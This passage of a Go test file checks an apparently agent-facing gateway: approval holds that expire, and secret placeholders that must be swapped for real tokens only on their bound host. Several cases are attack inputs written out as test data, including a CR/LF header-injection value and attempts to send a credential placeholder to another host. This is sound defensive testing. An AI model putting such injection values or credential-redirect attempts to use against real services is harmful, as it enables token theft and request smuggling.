// approver, and was never sent.
func TestGatewayHoldExpiry(t *testing.T) {
	e := gwenv.New(t, gatewayBin(t))
	d := e.BaseConfig("exp")
	d.Rule("tickets.create_refund")["hold_ttl"] = "5s"
	g := e.Start(d, e.Write(d))
	c := casebook.Expect(t, "E6", "approve a hold after its hold_ttl (5s) passed",
		"agent poll 403 approval_expired, approver 410, nothing upstream; control: poll before expiry 202 pending")
	r := g.Call(agentA, "tickets.create_refund", `{"body":{"amount":3}}`)
	if r.Status != http.StatusAccepted {
		t.Fatalf("ask: %d %s", r.Status, r.Body)
	}
	ctl := g.Do(agentA, http.MethodGet, "/v1/holds/"+r.HoldID, "", nil)
	p := g.Do(agentA, http.MethodGet, "/v1/holds/"+r.HoldID+"?wait=30s", "", nil)
	st, code, _ := g.AdminDo(http.MethodPost, "/api/v1/holds/"+r.HoldID+"/approve", gwenv.CarolToken, `{"reason":"late"}`)
	c.Observef("control poll %d %s; poll past expiry %d %s; approve %d %s; upstream requests %d", ctl.Status, ctl.HoldState, p.Status, p.Code, st, code, len(e.Up.Requests()))
	if p.Status != http.StatusForbidden || p.Code != "approval_expired" || st != http.StatusGone || len(e.Up.Requests()) != 0 {
		t.Errorf("poll %d %s, approve %d %s, upstream %d", p.Status, p.Body, st, code, len(e.Up.Requests()))
	}
}

// TestGatewayPlaceholders is THREATS D2, D4, D5 and D6: a placeholder
// bound to api.test's Authorization header is substituted only there.
func TestGatewayPlaceholders(t *testing.T) {
	w := newWorld(t)
	c := w.proxyClient(agentA, w.gatewayCA)
	bearer := http.Header{"Authorization": {"Bearer " + w.placeholder}}
	last := func() tlsSeen {
		rs := w.tlsRequests()
		if len(rs) == 0 {
			return tlsSeen{}
		}
		return rs[len(rs)-1]
	}
	t.Run("D2 control: the bound host gets the secret", func(t *testing.T) {
		cb := casebook.Expect(t, "D2", "control: placeholder in Authorization to api.test (its bound host)",
			"200; the upstream sees the real secret; the sandbox never does")
		st, body, _ := w.fetch(t, c, http.MethodGet, "https://api.test/user", "", bearer)
		l := last()
		cb.Observef("%d, upstream got the secret %v, reply has it %v", st, l.auth == "Bearer "+w.ghSecret, strings.Contains(body, w.ghSecret))
		if st != http.StatusOK || l.auth != "Bearer "+w.ghSecret || strings.Contains(body, w.ghSecret) {
			t.Fatalf("%d %q, upstream auth is the secret: %v", st, body, l.auth == "Bearer "+w.ghSecret)
		}
	})
	t.Run("D2 placeholder sent to another host", func(t *testing.T) {
		cb := casebook.Expect(t, "D2", "placeholder for api.test sent in Authorization to other.test (intercepted)",
			"not substituted: other.test sees the placeholder; audit placeholder_host_mismatch")
		st, _, _ := w.fetch(t, c, http.MethodGet, "https://other.test/x", "", bearer)
		l := last()
		audited := w.awaitAudit(t, "placeholder_host_mismatch", "other.test")
		cb.Observef("%d, other.test saw the placeholder %v (secret %v), audited %v", st, l.auth == "Bearer "+w.placeholder, strings.Contains(l.auth, w.ghSecret), audited)
		if l.host != "other.test" || l.auth != "Bearer "+w.placeholder || !audited {
			t.Errorf("other.test saw %q; audited %v", l.auth, audited)
		}
	})
	t.Run("D4 placeholder in the body", func(t *testing.T) {
		cb := casebook.Expect(t, "D4", "placeholder in the JSON body to api.test (only the header is declared)",
			"sent unchanged (never the secret); audit placeholder_not_substituted")
		payload := `{"token":"` + w.placeholder + `"}`
		st, _, _ := w.fetch(t, c, http.MethodPost, "https://api.test/upload", payload, nil)
		l := last()
		audited := w.awaitAudit(t, "placeholder_not_substituted", "api.test")
		cb.Observef("%d, body unchanged %v, audited %v", st, l.body == payload, audited)
		if l.body != payload || strings.Contains(l.body, w.ghSecret) || !audited {
			t.Errorf("upstream body %q, audited %v", l.body, audited)
		}
	})
	t.Run("D4 placeholder in the query", func(t *testing.T) {
		cb := casebook.Expect(t, "D4", "placeholder in the query string to api.test", "sent unchanged, never the secret")
		st, _, _ := w.fetch(t, c, http.MethodGet, "https://api.test/q?t="+url.QueryEscape(w.placeholder), "", nil)
		l := last()
		cb.Observef("%d, upstream URI has the placeholder %v, the secret %v", st, strings.Contains(l.uri, "gh-token"), strings.Contains(l.uri, w.ghSecret))
		if !strings.Contains(l.uri, "gh-token") || strings.Contains(l.uri, w.ghSecret) {
			t.Errorf("upstream URI %q", l.uri)
		}
	})
	t.Run("D5 plain http to the credentialed host", func(t *testing.T) {
		cb := casebook.Expect(t, "D5", "http://api.test/user (plaintext) with the placeholder", "403 egress_denied, nothing upstream")
		n, h := len(w.tlsRequests()), w.httpConn.Load()
		st, body, _ := w.fetch(t, w.proxyClient(agentA, nil), http.MethodGet, "http://api.test/user", "", bearer)
		cb.Observef("%d %s, upstream requests +%d, plain connections +%d", st, errCode(body), len(w.tlsRequests())-n, w.httpConn.Load()-h)
		if st != http.StatusForbidden || errCode(body) != "egress_denied" || len(w.tlsRequests()) != n || w.httpConn.Load() != h {
			t.Errorf("got %d %s", st, body)
		}
	})
	t.Run("D6 CR/LF next to the placeholder", func(t *testing.T) {
		cb := casebook.Expect(t, "D6", "placeholder followed by %0d%0aX-Evil: 1 in the query to api.test", "400 schema_violation, nothing upstream")
		n := len(w.tlsRequests())
		st, body, _ := w.fetch(t, c, http.MethodGet, "https://api.test/q?t="+url.QueryEscape(w.placeholder)+"%0d%0aX-Evil:%201", "", nil)
		cb.Observef("%d %s, upstream requests +%d", st, errCode(body), len(w.tlsRequests())-n)
		if st != http.StatusBadRequest || errCode(body) != "schema_violation" || len(w.tlsRequests()) != n {
			t.Errorf("got %d %s", st, body)
		}
	})
}
